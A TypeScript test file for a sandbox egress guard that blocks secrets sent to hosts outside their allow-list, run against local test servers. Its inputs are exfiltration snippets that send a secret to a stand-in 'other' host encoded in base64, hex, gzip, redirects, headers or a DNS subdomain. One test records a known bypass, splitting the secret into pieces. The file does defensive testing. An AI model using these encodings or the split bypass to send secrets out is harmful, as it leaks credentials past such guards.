/**
 * The guard against readable secrets that leave for hosts that are not theirs, from steps against real servers. Goal: what
 * each setting says happens, in every part of a request and every form of the value, and before a name is resolved.
 */
import { gzipSync } from "node:zlib";
import { afterAll, afterEach, beforeAll, describe, expect, test } from "vitest";
import type { EgressGuard } from "../../../protocol/settings.ts";
import { secretPolicySchema } from "../../../protocol/secret-policy.ts";
import { SecretValue } from "../../../protocol/secret.ts";
import type { Sandbox } from "../../../runtime/sandbox.ts";
import { startNameServer, type TestNameServer } from "../../helpers/name-server.ts";
import { openTestSandbox, runStep, type StepRun } from "../../helpers/sandbox.ts";
import { startUpstream, type Upstream } from "../../helpers/upstream.ts";

const value = "Rt5-Yk83Lm2Qp7Xr5Wt1Vb";

let own: Upstream;
let other: Upstream;
let names: TestNameServer;
let params: { own: string; other: string };
const sandboxes = new Map<EgressGuard | undefined, Sandbox>();

beforeAll(async () => {
  [own, other] = await Promise.all([startUpstream({ tls: false }), startUpstream({ tls: false })]);
  names = await startNameServer((name) => (name.endsWith(".test") ? ["127.0.0.1"] : undefined));
  const hosts = [`own.test:${own.port}`, `other.test:${other.port}`];
  params = { own: `http://${hosts[0]}`, other: `http://${hosts[1]}` };
  for (const guard of [undefined, "off", "report", "block"] as const) {
    const egress = { open: hosts, own: [], nameServers: [names.address], guard };
    sandboxes.set(guard, openTestSandbox([], 0, { isolation: "isolate", egress }));
  }
});
afterAll(async () => {
  for (const sandbox of sandboxes.values()) await sandbox.close();
  names.close();
  own.close();
  other.close();
});
afterEach(() => {
  own.take();
  other.take();
});

async function send(
  call: string,
  { guard, listed = true }: { guard?: EgressGuard; listed?: boolean } = {},
): Promise<StepRun & { arrived: number }> {
  const policy = secretPolicySchema.parse({ hosts: listed ? [`own.test:${own.port}`] : [] });
  const code = `const s = <<secrets.key>>; try { return (await ${call}).status } catch (e) { return e.code }`;
  const secrets = { key: new SecretValue("key", value, policy) };
  const result = await runStep(sandboxes.get(guard)!, "javascript", code, { params, secrets });
  return { ...result, arrived: other.take().length };
}

const toOther = "fetch(params.other, { headers: { 'x-key': s } })";
const toOwn = "fetch(params.own, { headers: { 'x-key': s } })";
const kindsOf = ({ events }: StepRun): string[] => events.map(({ kind }) => kind);

describe("a secret with hosts of its own", () => {
  test("goes to them, and the request's record names it", async () => {
    const result = await send(toOwn);
    expect(result.output).toBe(200);
    expect(result.events).toContainEqual(expect.objectContaining({ kind: "request", secrets: ["key"] }));
    expect(kindsOf(result)).not.toContain("security");
  });
  test.each([
    ["by default", undefined, "ERR_EGRESS_GUARD", "blocked"],
    ["under block", "block", "ERR_EGRESS_GUARD", "blocked"],
    ["under report", "report", 200, "reported"],
    ["under off", "off", 200, undefined],
  ] as const)("elsewhere: %s", async (_, guard, output, action) => {
    const result = await send(toOther, guard === undefined ? {} : { guard });
    expect(result.output).toBe(output);
    expect(result.arrived).toBe(output === 200 ? 1 : 0);
    const security = result.events.filter(({ kind }) => kind === "security");
    expect(security).toEqual(
      action === undefined
        ? []
        : [
            {
              kind: "security",
              action,
              reason: "host",
              secrets: ["key"],
              method: "GET",
              host: new URL(params.other).host,
            },
          ],
    );
  });
  test.each([
    ["in the path", "fetch(params.other + '/' + s)"],
    [
      "in the query, encoded twice",
      "fetch(params.other + '/?a=' + encodeURIComponent([...s].map((c) => '%' + c.charCodeAt(0).toString(16)).join('')))",
    ],
    ["in the name of a header", "fetch(params.other, { headers: { ['x-' + s]: '1' } })"],
    ["as a basic password", "fetch(params.other, { headers: { authorization: 'Basic ' + btoa('user:' + s) } })"],
    ["in a JSON body", "fetch(params.other, { method: 'POST', body: JSON.stringify({ a: [s] }) })"],
    ["in base64", "fetch(params.other, { method: 'POST', body: btoa('xy' + s) })"],
    [
      "in hexadecimal digits",
      "fetch(params.other, { method: 'POST', body: [...s].map((c) => c.charCodeAt(0).toString(16)).join('') })",
    ],
    ["reversed", "fetch(params.other, { method: 'POST', body: [...s].reverse().join('') })"],
    [
      "in a form with files",
      "(() => { const f = new FormData(); f.append('f', new File([s], 'a.txt')); return fetch(params.other, { method: 'POST', body: f }) })()",
    ],
    [
      "after a redirect",
      "fetch(params.own + '/redirect?status=307&to=' + encodeURIComponent(params.other), { method: 'POST', body: s })",
    ],
    [
      "in a redirect's address",
      "fetch(params.own + '/redirect?to=' + encodeURIComponent(params.other + '/?k=CREDENTIAL'), { headers: { 'x-api-key': s } })",
    ],
  ])("is found %s", async (_, call) => {
    const result = await send(call);
    expect(result.output).toBe("ERR_EGRESS_GUARD");
    expect(result.arrived).toBe(0);
  });
  test("is found in compressed data", async () => {
    const bytes = JSON.stringify([...gzipSync(`{"k":"${value}"}`)]);
    const result = await send(`fetch(params.other, { method: "POST", body: new Uint8Array(${bytes}) })`);
    expect(result.output).toBe("ERR_EGRESS_GUARD");
  });
  test("is found in a host, before anybody is asked for that name", async () => {
    const before = names.asked.length;
    const result = await send("fetch('http://' + s + '.other.test/')");
    expect(result.output).toBe("ERR_EGRESS_GUARD");
    expect(names.asked.slice(before)).toEqual([]);
  });
  test("is not found cut into pieces, which the docs say", async () => {
    const result = await send(
      "fetch(params.other + '/?a=' + s.slice(0, 9)).then(() => fetch(params.other + '/?b=' + s.slice(9)))",
    );
    expect([result.output, result.arrived]).toEqual([200, 2]);
  });
});

describe("a secret without hosts", () => {
  test("goes anywhere, and the request's record names it", async () => {
    for (const guard of [undefined, "report"] as const) {
      const result = await send(toOther, { listed: false, ...(guard === undefined ? {} : { guard }) });
      expect(result.output).toBe(200);
      expect(result.events).toContainEqual(expect.objectContaining({ kind: "request", secrets: ["key"] }));
      expect(kindsOf(result)).not.toContain("security");
    }
  });
  test("goes nowhere under block, and is not looked for under off", async () => {
    expect((await send(toOther, { listed: false, guard: "block" })).output).toBe("ERR_EGRESS_GUARD");
    const result = await send(toOther, { listed: false, guard: "off" });
    expect(result.events).toContainEqual(expect.objectContaining({ kind: "request", secrets: [] }));
  });
});
